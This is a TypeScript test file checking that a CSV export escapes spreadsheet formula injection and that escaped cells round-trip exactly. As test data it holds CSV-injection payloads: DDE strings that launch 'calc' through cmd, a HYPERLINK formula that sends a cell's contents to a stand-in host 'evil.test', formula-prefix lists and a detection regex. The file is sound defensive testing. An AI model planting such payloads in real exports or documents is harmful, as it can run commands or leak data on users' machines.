import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvLine, defused, undefused } from '../../shared/text/csv-text.ts';
import { exported } from '../engine/export/export-fixtures.ts';
import { writeEvents } from '../engine/query/dataset.ts';
import { freshWorkspace } from '../engine/store/fixtures.ts';

const PREFIXES = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠', "'=", "''@"];
const BODIES = ['cmd|" /C calc"!A0', 'HYPERLINK("http://x","y")', '1+1', 'x,y', 'x"y', 'x\r\n=1+1', ''];

/** What a spreadsheet makes a formula of, in any language it runs in. */
const RUNS = /^[=+\-@\t\r\n\0＝＋－＠]/;

const cellsOf = (csv: string): string[][] => Papa.parse<string[]>(csv, { skipEmptyLines: true }).data;

describe('a cell of an export', () => {
  const matrix = PREFIXES.flatMap((prefix) => BODIES.map((body) => prefix + body));

  it.each(matrix)('%j is text to a spreadsheet, whatever quotes it needs', (text) => {
    const [[cell] = []] = cellsOf(csvLine([defused(text), 'next']));
    expect(cell).toBe(`'${text}`);
    expect(cell).not.toMatch(RUNS);
    expect(undefused(cell ?? '')).toBe(text);
  });

  it.each(['-5', '+1.25', '10', 'a=b', 'x-y', "it's", "'quoted'", '', '2026-10-30', '–'])(
    '%j stays as it is',
    (text) => {
      expect(defused(text)).toBe(text);
    },
  );

  it('comes back whatever it was', () => {
    const text = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc.array(fc.constantFrom(...PREFIXES, "'", 'a')).map((parts) => parts.join('')),
    );
    fc.assert(
      fc.property(text, (value) => {
        expect(undefused(defused(value))).toBe(value);
        expect(/^-?\d/.test(value) || !RUNS.test(defused(value)) || /^[+-]\d/.test(value)).toBe(true);
      }),
    );
  });
});

describe('an export of a hostile log', () => {
  it('runs nothing in a spreadsheet: not from values, details, changes or names of columns', async () => {
    const ws = freshWorkspace();
    const attack = '=HYPERLINK("http://evil.test/"&A1,"open")';
    writeEvents(
      ws,
      [
        {
          fields: {
            actor: attack,
            action: '@SUM(1+1)*cmd',
            resource: '\t=1+1',
            detail: '-2+3+cmd|" /C calc"!A0',
            changes: `[{"path":"","before":"+1+1","after":${JSON.stringify(attack)}}]`,
            balance: -5_000_000_000n,
          },
          extra: [['=1+1', '\r=2+2']],
        },
      ],
      '=cmd.csv',
    );
    const { text } = await exported(ws, 'csv');
    const [headers = [], row = []] = cellsOf(text);
    expect(headers.at(-1)).toBe("'=1+1");
    for (const cell of [...headers, ...row]) {
      if (cell !== '-5') expect(cell).not.toMatch(RUNS);
    }
    expect(row).toContain('-5');
    const stored = new Map(headers.map((header, index) => [header, undefused(row[index] ?? '')]));
    expect(stored.get('actor')).toBe(attack);
    expect(stored.get('resource')).toBe('\t=1+1');
    expect(stored.get('before')).toBe('+1+1');
    expect(stored.get("'=1+1")).toBe('\r=2+2');
  });

  it('is byte-true as JSON Lines, which is the record', async () => {
    const ws = freshWorkspace();
    writeEvents(ws, [{ fields: { actor: '=1+1', resource: '\u202Eevil\u0000' }, extra: [] }]);
    const { text, report } = await exported(ws, 'jsonl');
    expect(JSON.parse(text)).toMatchObject({ actor: '=1+1', resource: '\u202Eevil\u0000' });
    expect(report.sanitised).toBe(false);
  });
});
